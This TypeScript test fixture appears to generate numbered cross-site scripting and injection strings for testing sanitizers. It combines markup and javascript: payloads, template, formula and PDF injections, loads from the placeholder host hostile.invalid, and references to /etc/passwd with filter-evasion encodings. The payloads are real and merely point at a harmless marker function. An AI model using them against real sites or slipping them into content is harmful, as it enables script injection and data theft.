import { seededRandom } from '../../bench/fixtures/random.ts'
import { caseSeed } from '../case-seed.ts'

/** What each payload wants to run; whoever watches has put a function of that name into the page. */
const act = (at: number): string => `hostile(${at})`

/** Where payloads would fetch from: a name that no resolver knows (RFC 2606). */
const HOST = 'hostile.invalid'

/** Ways to make something run, load or lead elsewhere, each around the words that would then be run. */
const TEMPLATES: readonly ((js: string) => string)[] = [
  // Markup that runs by itself.
  (js) => `<script>${js}</script>`,
  (js) => `<img src=x onerror=${js} data-hostile>`,
  (js) => `<svg onload=${js} data-hostile>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s data-hostile>`,
  (js) => `<svg><script data-hostile>${js}</script></svg>`,
  (js) => `<svg><foreignObject><iframe srcdoc="<script>parent.${js}</script>" data-hostile></foreignObject></svg>`,
  (js) => `<iframe src="javascript:parent.${js}" data-hostile></iframe>`,
  (js) => `<iframe srcdoc="<img src=x onerror=parent.${js}>" data-hostile></iframe>`,
  (js) => `<object data="javascript:${js}" data-hostile></object>`,
  (js) => `<embed src="javascript:${js}" data-hostile>`,
  (js) => `<details open ontoggle=${js} data-hostile>x</details>`,
  (js) => `<input autofocus onfocus=${js} data-hostile>`,
  (js) => `<video><source onerror=${js} data-hostile></video>`,
  (js) => `<audio src=x onerror=${js} data-hostile></audio>`,
  (js) => `<marquee onstart=${js} data-hostile>x</marquee>`,
  (js) => `<body onload=${js} data-hostile>`,
  (js) => `<style onload=${js} data-hostile></style>`,
  (js) => `<p style="animation:x 1s" onanimationstart=${js} data-hostile>x</p>`,
  (js) => `<math><mtext><table><mglyph><style><img src=x onerror=${js} data-hostile>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js} data-hostile>">`,
  (js) => `<template><img src=x onerror=${js} data-hostile></template>`,
  // Markup that waits for a hand or leads away.
  (js) => `<a href="javascript:${js}" data-hostile>press</a>`,
  (js) => `<form><button formaction="javascript:${js}" data-hostile>press</button></form>`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}" data-hostile>`,
  (js) => `<base href="//${HOST}/${js}/" data-hostile>`,
  (js) => `<link rel=stylesheet href="//${HOST}/${js}.css" data-hostile>`,
  (js) => `<style data-hostile>@import url(//${HOST}/${js});</style>`,
  (js) => `<div style="background:url(//${HOST}/${js})" data-hostile>x</div>`,
  (js) => `<img src="http://${HOST}/${js}" data-hostile>`,
  (js) => `<img src="file:///etc/hostname?${js}" data-hostile>`,
  // What a careless template, formula or message format would carry out.
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `\${${js}}`,
  (js) => `#{${js}} <%= ${js} %> [[${js}]]`,
  (js) => `{${js}, plural, one {<b>#</b>} other {{0}}}`,
  (js) => `=HYPERLINK("http://${HOST}/${js}","press")`,
  (js) => `[press](javascript:${js}) ![x](http://${HOST}/${js})`,
  (js) => `javascript:${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `file:///etc/passwd#${js}`,
  (js) => `\\\\${HOST}\\share\\${js}`,
  // What a careless writer of PDFs would take for its own language.
  (js) => `) /OpenAction << /S /JavaScript /JS (${js}) >> (`,
  (js) => `>> endobj 1 0 obj << /S /URI /URI (http://${HOST}/${js}) >> endobj`,
  (js) => `\\) /AA << /O << /S /Launch /F (${js}) >> >> \\(`,
  (js) => `endstream endobj trailer << /Root << /Names << /EmbeddedFiles ${js} >> >> >> %%EOF`,
]

/** What stands before and behind, to break out of the place that a text is put in. */
const CONTEXTS: readonly (readonly [before: string, behind: string])[] = [
  ['', ''],
  ['">', '<"'],
  ["'>", "<'"],
  ['</title>', ''],
  ['</textarea>', '<textarea>'],
  ['</script>', '<script>'],
  ['</style>', '<style>'],
  ['-->', '<!--'],
  [']]>', '<![CDATA['],
  ['*/', '/*'],
  ['`;', ';`'],
  ['\n\n', '\n'],
  ['</noscript></template></svg>', ''],
  ['"autofocus onfocus=hostile(0) x="', ''],
]

const byCode = (text: string, write: (code: number) => string): string =>
  Array.from(text, (letter) => (/[<>"'():/=]/.test(letter) ? write(letter.codePointAt(0) ?? 0) : letter)).join('')

/** How the whole is written, to pass by whatever looks for the plain form. */
const ENCODINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) =>
    text.replaceAll(/<\/?[a-z]+/gi, (tag) => Array.from(tag, (c, at) => (at % 2 === 0 ? c : c.toUpperCase())).join('')),
  (text) => byCode(text, (code) => `&#${code};`),
  (text) => byCode(text, (code) => `&#x${code.toString(16)}`),
  (text) => byCode(text, (code) => `%${code.toString(16).padStart(2, '0')}`),
  (text) => byCode(text, (code) => `%25${code.toString(16)}`),
  (text) => byCode(text, (code) => `\\u${code.toString(16).padStart(4, '0')}`),
  (text) => byCode(text, (code) => `\\x${code.toString(16)}`),
  (text) => byCode(text, (code) => String.fromCodePoint(code + 0xfee0)),
  (text) => text.replaceAll('javascript:', 'java\tscript\n:').replaceAll(' on', '\fon'),
  (text) => text.replaceAll(/<([a-z])/gi, '<\u200b$1'),
  (text) => text.replaceAll('<', '<!--x--><'),
  (text) => `\u202e${text}\u202c`,
  (text) => text.replaceAll('=', ' = ').replaceAll('/', '/ '),
]

/** How many strings differ by more than their number. */
export const KINDS = TEMPLATES.length * CONTEXTS.length * ENCODINGS.length

/**
 * The hostile string of a number: template, context and encoding by turns, in an order that the seed shuffles, so that
 * any run of neighbours has some of everything. No two numbers give the same string, because each holds its own.
 */
export function hostileText(seed: number, at: number): string {
  const random = seededRandom(caseSeed(seed, at))
  // The first pass goes through every combination once; a stride that shares no factor with their number mixes them.
  const kind = at < KINDS ? (at * STRIDE + (seed % KINDS)) % KINDS : random.whole(0, KINDS - 1)
  const template = TEMPLATES[kind % TEMPLATES.length]!
  const [before, behind] = CONTEXTS[Math.floor(kind / TEMPLATES.length) % CONTEXTS.length]!
  const encode = ENCODINGS[Math.floor(kind / TEMPLATES.length / CONTEXTS.length)]!
  return `${at} ${encode(`${before}${template(act(at))}${behind}`)}`
}

/** A prime, and no divisor of the number of kinds. */
const STRIDE = 7_919
